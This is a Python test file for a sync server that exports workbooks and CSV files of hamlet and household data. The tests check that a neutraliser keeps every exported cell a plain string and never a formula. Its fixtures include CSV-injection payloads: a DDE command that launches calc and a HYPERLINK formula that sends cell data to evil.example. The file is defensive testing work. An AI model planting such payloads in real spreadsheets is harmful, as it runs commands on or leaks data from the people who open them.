"""M4 (issue #12): nothing the server writes to a spreadsheet is ever a formula.

One function, render.text.neutralise, for every cell of every workbook (the totals
export, the import template) and every field of every CSV. Checked on the renderers
themselves with every prefix variant (leading whitespace of every kind, zero-width
characters, fullwidth signs), then through the real server: hamlets and addresses
named like formulas come out of the template, the workbook and the CSV files as
plain strings behind the neutraliser.
"""
from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest
from openpyxl import load_workbook

from campaign.ids import uuid7
from sync_server.render import csv as render_csv
from sync_server.render import xlsx as render_xlsx
from sync_server.render.rows import HouseholdRevisit, PersonNeed, TotalsTable, WorkbookAbout
from sync_server.render.text import NEUTRALISER, TOTAL_COLUMNS, neutralise

from ..support import hamlet_data, household_data
from .reporting import WARD, ok

ATTACKS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "+1+2", "-2+3",
           "@SUM(A1:A9)"]
SIGNS = ["=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\ufe66", "\u2212"]
LEADS = ["", " ", "  ", "\u00a0", "\u200b", "\ufeff", "\u3000", "\u2028", "\n", "\t", "\r", " \u200b\u00a0"]
VARIANTS = [lead + sign + "1+2" for lead in LEADS for sign in SIGNS] + ATTACKS
# what the wire takes as a hamlet name or an address today (the label rules may refuse more)
WIRE_VARIANTS = list(dict.fromkeys(ATTACKS + [lead + sign + "cmd|' /C calc'!A0" for lead in ("", " ", "\u00a0")
                                             for sign in ("=", "\uff1d", "\uff0b", "\uff0d", "\uff20")]))
PLAIN = ["Tổ dân phố 2", "Số 1-2, phố Lê Lợi", "Người 1", "", "1+2", "A=1", "  Thôn Đông", "'=1"]


@pytest.mark.parametrize("text", VARIANTS)
def test_every_formula_variant_is_neutralised(text):
    assert neutralise(text) == NEUTRALISER + text


@pytest.mark.parametrize("text", PLAIN)
def test_plain_text_is_left_alone(text):
    assert neutralise(text) == text


def _strings_are_safe(wb, originals: set[str]) -> int:  # type: ignore[no-untyped-def]
    """Every cell of every sheet: never a formula; a cell holding one of `originals` holds
    it as a string behind the neutraliser. Returns how many such cells it saw."""
    seen = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value[len(NEUTRALISER):] in originals:
                    assert cell.data_type == "s" and cell.value.startswith(NEUTRALISER), (ws.title, cell.value)
                    seen += 1
                assert cell.value not in originals, (ws.title, cell.coordinate, cell.value)
    return seen


def _load(content: bytes):  # type: ignore[no-untyped-def]
    return load_workbook(io.BytesIO(content))


def _row(name: str) -> dict:
    zero = {"key": name, "name": name}
    zero.update({k: 0 for k in ("households", "visited", "revisit", "people", "chip_card", "eid_active", "visits",
                                "helped")})
    for _h, path in TOTAL_COLUMNS:
        if len(path) == 2:
            zero.setdefault(path[0], {})[path[1]] = 0  # type: ignore[index]
    return zero


def test_the_renderers_neutralise_every_variant():
    originals = set(VARIANTS)
    out = io.BytesIO()
    render_xlsx.import_template(out, ["Thôn/Tổ", "Địa chỉ"], VARIANTS, this_year=2026, max_rows=10, max_bytes=2**20)
    assert _strings_are_safe(_load(out.getvalue()), originals) == len(VARIANTS)
    table = TotalsTable([_row(name) for name in VARIANTS], _row("Tổng cộng"))
    people = [PersonNeed("h", text, "x", text, "p", text, 1980, "none", "no_app", [], ["card_capture"])
              for text in VARIANTS]
    revisits = [HouseholdRevisit("h", text, "x", text, 1, None) for text in VARIANTS]
    about = WorkbookAbout(WARD, VARIANTS[0], VARIANTS[1], None, False, datetime.now(UTC), None, "admin")
    out = io.BytesIO()
    render_xlsx.totals_workbook(out, table, [*people, *revisits], about)
    # each variant: the totals sheet's row, the follow-up sheet (hamlet, address, label; hamlet, address)
    assert _strings_are_safe(_load(out.getvalue()), originals) >= 6 * len(VARIANTS)
    for lines in (render_csv.totals(table), render_csv.followup("card_capture", people),
                  render_csv.followup("revisit", revisits)):
        cells = [c for row in csv.reader(io.StringIO("".join(lines).removeprefix("\ufeff"))) for c in row]
        assert not originals & set(cells)
        assert sum(c[len(NEUTRALISER):] in originals for c in cells) >= len(VARIANTS)


@pytest.fixture(scope="module")
def world(server):  # type: ignore[no-untyped-def]
    """Hamlets named like formulas, each with a household (its address the same) nobody was home at."""
    admin, officer = server.enroll("admin"), server.enroll("officer", commune=WARD)
    hamlets = {name: uuid7() for name in WIRE_VARIANTS}
    answer = ok(admin.push([admin.event("hamlet.created", h, hamlet_data(name)) for name, h in hamlets.items()]))
    assert answer["quarantined"] == [], answer
    events = []
    for name, hamlet in hamlets.items():
        household = uuid7()
        events += [admin.event("household.created", household, household_data(hamlet, name)),
                   admin.event("visit.recorded", uuid7(), {"household_id": household, "outcome": "not_home",
                                                           "actions": [], "people_helped": [], "note": ""})]
    assert ok(admin.push(events))["quarantined"] == []
    return officer


def test_the_import_template_holds_hamlet_names_as_plain_strings(world):
    answer = world.get("/api/v1/imports/template.xlsx", commune=WARD)
    assert answer.status_code == 200, answer.text
    wb = _load(answer.content)
    assert _strings_are_safe(wb, set(WIRE_VARIANTS)) == len(WIRE_VARIANTS)


def test_the_exported_workbook_holds_them_as_plain_strings(world):
    answer = world.get("/api/v1/exports/totals.xlsx", commune=WARD)
    assert answer.status_code == 200, answer.text
    # the totals sheet (hamlet), the follow-up sheet (hamlet and address of each revisit)
    assert _strings_are_safe(_load(answer.content), set(WIRE_VARIANTS)) >= 3 * len(WIRE_VARIANTS)


@pytest.mark.parametrize("path,params", [("/api/v1/exports/totals.csv", {}),
                                         ("/api/v1/followup", {"list": "revisit", "format": "csv"})])
def test_the_csv_files_hold_them_behind_the_neutraliser(world, path, params):
    answer = world.get(path, commune=WARD, **params)
    assert answer.status_code == 200, answer.text
    cells = [c for row in csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))) for c in row]
    assert not set(WIRE_VARIANTS) & set(cells)
    assert {c[len(NEUTRALISER):] for c in cells} >= set(WIRE_VARIANTS)
